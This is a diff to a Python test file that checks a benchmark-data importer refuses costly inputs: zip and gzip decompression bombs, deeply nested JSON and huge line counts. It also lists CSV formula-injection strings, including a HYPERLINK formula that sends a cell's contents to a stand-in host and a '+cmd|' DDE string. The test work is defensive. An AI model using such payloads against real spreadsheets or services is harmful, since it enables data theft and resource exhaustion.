@@ -6,7 +6,7 @@ import csv
 import gzip
 import io
 import zipfile
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import pytest
@@ -28,7 +28,6 @@ def zip_bomb() -> bytes:
     return out.getvalue()
 
 
-ZIP_BOMB = zip_bomb()
 FORMULAS = (
     '=HYPERLINK("http://x.invalid/?"&A1,"ok")', "+cmd|x!A1", "-1+1", "@SUM(1)", "\t=1", " =1",
     "＝1+1",
@@ -111,33 +110,45 @@ def test_a_cell_that_was_guarded_is_imported_as_it_was(text: str, tmp_path: Path
 @pytest.mark.parametrize(
     ("form", "files", "problem"),
     [
-        ("trec", {"qrels.txt": QRELS * 1_500_000}, "1500000 lines; expected at most 100000 lines"),
-        ("trec", {"qrels.txt": QRELS, "run.txt": RUN * 300_000}, "expected at most 250000 lines"),
-        ("trec", {"qrels.txt": QRELS + b"\n" * (60 << 20)}, "line-count"),
-        ("legalagent", {"a.jsonl": b'{"query":1}\n' * 2_000_000}, "line-count"),
-        ("finlaw", {"a.csv": HEADER + b"\n" + b"x\n" * 2_000_000}, "line-count"),
-        ("finlaw", {"a.csv": HEADER + ",违规事".encode() * 1_000_000}, "unknown-column; got"),
-        ("finlaw", {f"{n}.csv": bytes(8 << 20) for n in range(9)}, "at most 67108864 bytes"),
-        ("lm_eval", {"s.jsonl": b'{"doc_id":0,"resps":[]}\n' * 2_000_000}, "line-count"),
-        ("inspect", {"a.eval": ZIP_BOMB}, "at most 67108864 bytes unpacked"),
-        ("inspect", {"a.json": b'{"status":"","eval":' + b"[" * 50_000_000}, "depth"),
-        ("lexeval", {"1_1.jsonl.gz": gzip.compress(bytes(1 << 28), 1)}, "67108864 bytes unpacked"),
-        ("disc", {"mcq_sing_a.csv": b"input,output" + b",x" * 20_000_000}, "more than 64 columns"),
-        ("lawbench", {"1-2.json": b'[{"question":' * 1_000_000}, "depth"),
-        ("table", MAPPING | {"a.csv": b"q,a\n" + b"x,y\n" * 12_000_000}, "over 1000000 cells"),
-        ("table", MAPPING | {"a.jsonl": b'{"q":"' + b"x" * (40 << 20) + b'"}\n'}, "string-size"),
+        ("trec", lambda: {"qrels.txt": QRELS * 1_500_000},
+         "1500000 lines; expected at most 100000 lines"),
+        ("trec", lambda: {"qrels.txt": QRELS, "run.txt": RUN * 300_000},
+         "expected at most 250000 lines"),
+        ("trec", lambda: {"qrels.txt": QRELS + b"\n" * (60 << 20)}, "line-count"),
+        ("legalagent", lambda: {"a.jsonl": b'{"query":1}\n' * 2_000_000}, "line-count"),
+        ("finlaw", lambda: {"a.csv": HEADER + b"\n" + b"x\n" * 2_000_000}, "line-count"),
+        ("finlaw", lambda: {"a.csv": HEADER + ",违规事".encode() * 1_000_000},
+         "unknown-column; got"),
+        ("finlaw", lambda: {f"{n}.csv": bytes(8 << 20) for n in range(9)},
+         "at most 67108864 bytes"),
+        ("lm_eval", lambda: {"s.jsonl": b'{"doc_id":0,"resps":[]}\n' * 2_000_000}, "line-count"),
+        ("inspect", lambda: {"a.eval": zip_bomb()}, "at most 67108864 bytes unpacked"),
+        ("inspect", lambda: {"a.json": b'{"status":"","eval":' + b"[" * 50_000_000}, "depth"),
+        ("lexeval", lambda: {"1_1.jsonl.gz": gzip.compress(bytes(1 << 28), 1)},
+         "67108864 bytes unpacked"),
+        ("disc", lambda: {"mcq_sing_a.csv": b"input,output" + b",x" * 20_000_000},
+         "more than 64 columns"),
+        ("lawbench", lambda: {"1-2.json": b'[{"question":' * 1_000_000}, "depth"),
+        ("table", lambda: MAPPING | {"a.csv": b"q,a\n" + b"x,y\n" * 12_000_000},
+         "over 1000000 cells"),
+        ("table", lambda: MAPPING | {"a.jsonl": b'{"q":"' + b"x" * (40 << 20) + b'"}\n'},
+         "string-size"),
     ],
     ids=[
         *("qrels", "run", "empty lines", "JSON lines", "rows", "columns", "files", "lm_eval"),
         *("zip", "nested log", "gzip", "disc", "nested list", "table", "cell"),
     ],
-)
+)  # fmt: skip
 def test_an_import_that_is_dear_to_read_is_refused_cheaply(
-    form: str, files: dict[str, bytes], problem: str, tmp_path: Path, converter: Server
+    form: str,
+    files: Callable[[], dict[str, bytes]],
+    problem: str,
+    tmp_path: Path,
+    converter: Server,
 ) -> None:
     source = tmp_path / "source"
     source.mkdir()
-    for name, data in files.items():
+    for name, data in files().items():
         (source / name).write_bytes(data)
 
     done = converter.run(["import", form, str(source), "-o", str(tmp_path / "draft")])
